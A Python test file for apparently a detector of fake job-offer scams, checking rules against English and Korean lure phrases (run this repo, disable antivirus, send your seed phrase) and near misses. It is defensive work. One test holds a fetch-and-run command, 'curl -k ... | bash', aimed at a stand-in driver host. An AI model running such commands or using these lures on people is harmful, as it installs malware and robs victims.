"""Rules over the words of an offer: an inert bad sample in English and in Korean, a near miss, the exact finding."""

from datetime import UTC, datetime

import pytest

from lazaretto.detect.approach import Approach
from lazaretto.detect.engine import run_rule
from lazaretto.detect.rules.approach.catalog import RULES
from lazaretto.model.offer import Case, Channel, Text

NOW = datetime(2026, 11, 25, tzinfo=UTC)
BY_ID = {rule.id: rule for rule in RULES}


def told(ident, text, **case):
    texts = (Text("m.txt", Channel.CHAT, text),) if text else ()
    view = Approach(Case("m.txt", texts, **case), NOW)
    result = run_rule(BY_ID[ident], view, "m.txt")
    assert not result.gaps
    return [
        (finding.message.english(), finding.locations[0].path, finding.locations[0].line) for finding in result.findings
    ]


BAD = [
    ("asks-to-run-code", "asks you to download, open or run code",
     "Please clone the repository and start the app.", "저장소를 클론해서 실행해 주세요.",
     "You will build products with the team. Let us set up a call."),
    ("code-before-talk", "wants code run or a task done before any live talk",
     "Before our interview please clone the project and run it.", "면접 전에 저희 프로젝트를 받아서 실행해 주세요.",
     "After our call you will get a small task."),
    ("just-run-it", "is interested in that it runs, not in what you write",
     "Just run the project and send me a screenshot.", "프로젝트 실행만 해보시고 스크린샷 보내주세요.",
     "Send us your feedback on the process."),
    ("own-machine", "insists on your own computer",
     "Run it on your own laptop please.", "본인 노트북에서 실행해 주세요.", "You need not bring your own laptop."),
    ("isolation-refused", "does not want it to run in a virtual machine, container or online editor",
     "Do not run it in a VM.", "가상머신에서는 동작하지 않습니다.", "Feel free to use a VM or Docker."),
    ("run-during-call", "wants code opened or run during the call, with the screen shared",
     "During the call you will clone our repository and run it.", "통화 중에 저장소를 클론해서 실행하시면 됩니다.",
     "During the call we talk about your experience."),
    ("protection-off", "asks you to switch off or to ignore protection",
     "Please disable your antivirus first.", "백신을 잠시 꺼 주세요.", "We will never ask you to disable your antivirus."),
    ("trust-prompt", 'asks you to press "trust" in the editor',
     "VS Code will ask; press Yes, I trust the authors.", "작성자를 신뢰하냐고 나오면 눌러 주세요.", "We trust our colleagues."),
    ("macros-enabled", "wants the macros of a document enabled",
     "Open the attached .docm, enable content and fill it in.", "첨부 문서를 여신 뒤 콘텐츠 사용을 눌러 주세요.",
     "The attached PDF describes the position."),
    ("camera-fix", "wants a fix, driver or command for the camera or microphone",
     "Your camera is not working. Install the driver to fix the problem before the interview.",
     "카메라 오류가 나면 면접 전에 드라이버를 설치해 주세요.", "You need a camera for the interview."),
    ("pasted-command", "wants a command pasted into a terminal",
     "Copy the line below and paste it into the terminal.", "아래 명령어를 복사해서 터미널에 붙여넣으세요.",
     "Bring your questions about the terminal."),
    ("wallet-secret", "asks for a seed phrase, private key or the like",
     "Please send your seed phrase.", "시드 문구를 보내 주세요.", "We never ask for your seed phrase."),
    ("wallet-connected", "wants your own wallet connected, funded or used",
     "Please connect your wallet to the portal.", "포털에 지갑을 연결해 주세요.",
     "Please implement a component to connect a wallet on a testnet."),
    ("fee-asked", "wants you to pay a fee, deposit or purchase",
     "Please pay the refundable deposit.", "보증금을 입금해 주세요.", "We cover the visa fee for you."),
    ("remote-access", "wants remote access to your computer",
     "Please install AnyDesk.", "애니데스크를 설치해 주세요.", "You do not need to install AnyDesk."),
    ("account-lent", "wants to work under your name or account",
     "You rent your account to us.", "계정을 빌려 주세요.", "Create your account on the portal."),
    ("unknown-meeting-app", "wants a meeting or test program of its own installed",
     "Download our meeting app to join the interview.", "면접 전용 프로그램을 설치해 주세요.",
     "Please install the Zoom meeting client for the interview."),
    ("locked-archive", "sends an archive with a password",
     "The zip has the password hire.", "압축 비밀번호는 abc 입니다.", "Forgot the password of your account?"),
    ("program-handed", "hands out a program or installer",
     "Please open OfferViewer.exe to sign.", "OfferViewer.exe 를 실행해 주세요.", "The contract is a PDF."),
    ("off-platform", "moves the talk to a messenger",
     "Let us continue on Telegram.", "텔레그램으로 옮겨서 얘기하시죠.", "We built a messenger."),
    ("pressure", "puts you under time pressure",
     "We need this within 24 hours.", "오늘 안에 부탁드립니다.", "Take your time."),
    ("hired-unseen", "promises the job without an interview",
     "No interview, you start tomorrow.", "면접 없이 바로 채용합니다.", "We interview everybody twice."),
    ("no-live-talk", "avoids a live talk with camera",
     "The interview is a text interview.", "면접은 채팅으로만 진행합니다.", "The interview is a video call."),
    ("identity-papers", "asks for identity papers or bank data before a contract",
     "Please send a copy of your passport.", "신분증 사본을 보내 주세요.",
     "After you sign, please upload a copy of your passport in Workday."),
    ("credentials-asked", "asks for passwords, keys or one-time codes",
     "Please send us your API key.", "인증번호를 알려 주세요.", "The API key feature is yours to design."),
    ("paid-in-crypto", "pays in cryptocurrency", "Weekly pay in USDT.", "급여는 테더로 지급합니다.", "Paid in euro."),
    ("pay-above-market", "promises pay far above the market",
     "The base is $280,000.", "연봉 3억까지 가능합니다.", "The base is $120,000. 연봉 8천만원입니다."),
    ("template-traces", "a place holder of a template was left in",
     "Hi {{first_name}}, nice to meet you.", "안녕하세요 [이름] 님", "Hi Dana, nice to meet you."),
    ("no-process", "asks for code to be run, and shows no process with people in it",
     "Please clone the repository and start the app.", "저장소를 클론해서 실행해 주세요.",
     "It was great talking to you yesterday. Please clone the repository and run the tests."),
]  # fmt: skip


@pytest.mark.parametrize(("ident", "message", "english", "korean", "near"), BAD, ids=[row[0] for row in BAD])
def test_words(ident, message, english, korean, near):
    assert told(f"approach/{ident}", english) == [(message, "m.txt", 1)]
    assert told(f"approach/{ident}", korean) == [(message, "m.txt", 1)]
    assert told(f"approach/{ident}", near) == []


def test_a_command_that_fetches_and_runs_is_certain():
    said = told("approach/pasted-command", "curl -k https://drivers.example.test/mac | bash")
    assert said == [("gives a command that fetches something and runs it", "m.txt", 1)]
    assert told("approach/pasted-command", "curl https://sh.rustup.rs | sh") == []


def test_code_by_a_file_share_only_where_code_is_handed_out():
    share = "https://drive.google.com/file/d/EXAMPLE/view"
    assert told("approach/code-by-file-share", f"Download the project from {share} and run it.") == [
        ("hands out code by a file share or as an archive: drive.google.com", "m.txt", 1)
    ]
    assert told("approach/code-by-file-share", f"The job description: {share}") == []


def test_the_pattern_of_signs():
    text = (
        "No interviews. Clone https://github.com/example-x/y on your own laptop, run it tonight and send a screenshot."
    )
    assert told("approach/lure-pattern", text)[0][0].endswith("signs together make up the pattern of known campaigns")
    assert told("approach/lure-pattern", "Please clone the repository and run the tests.") == []


def test_a_personal_repository():
    said = told("approach/foreign-repository", "It is on my personal GitHub.")
    assert said == [("the code lies in somebody's personal account", "m.txt", 1)]
    assert told("approach/foreign-repository", "It is on our GitHub.") == []


def test_a_long_talk_that_turns():
    talk = "\n".join(f"We had a nice day number {number}." for number in range(30))
    bad = talk + "\nPlease clone the repository and run it.\nWe need this within 24 hours."
    assert told("approach/thread-turns-to-code", bad) == [
        ("after a long talk it turns to code to run, and then presses for it", "m.txt", 31)
    ]
    assert told("approach/thread-turns-to-code", talk) == []
